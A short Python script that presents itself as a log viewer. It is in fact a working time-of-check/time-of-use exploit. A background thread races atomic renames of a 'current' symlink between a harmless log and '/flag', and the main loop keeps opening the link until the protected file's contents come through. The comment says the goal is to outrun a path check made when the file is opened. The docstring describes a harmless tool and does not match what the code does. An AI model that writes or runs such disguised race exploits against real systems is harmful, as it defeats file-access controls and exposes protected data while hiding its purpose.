"""Log viewer that always shows the 'current' log through a symlink."""
import os
import tempfile
import threading

work = tempfile.mkdtemp(prefix="logview-")
benign = os.path.join(work, "app.log")
with open(benign, "w") as fh:
    fh.write("INFO started\n")

cur = os.path.join(work, "current")
a, b = cur + ".a", cur + ".b"
os.symlink(benign, a)
os.symlink("/flag", b)
stop = False


def rotate():
    # atomic renames flip 'current' between the checked log and the target,
    # so whatever path check happened at open-event time is stale by the time the kernel resolves it
    while not stop:
        os.symlink(benign, a) if not os.path.lexists(a) else None
        os.symlink("/flag", b) if not os.path.lexists(b) else None
        os.replace(a, cur)
        os.replace(b, cur)


t = threading.Thread(target=rotate, daemon=True)
t.start()
seen = set()
for _ in range(20000):
    try:
        with open(cur) as fh:
            text = fh.read()
    except OSError:
        continue
    if not text.startswith("INFO"):
        seen.add(text)
        break
stop = True
print("current log:", seen or "INFO started")
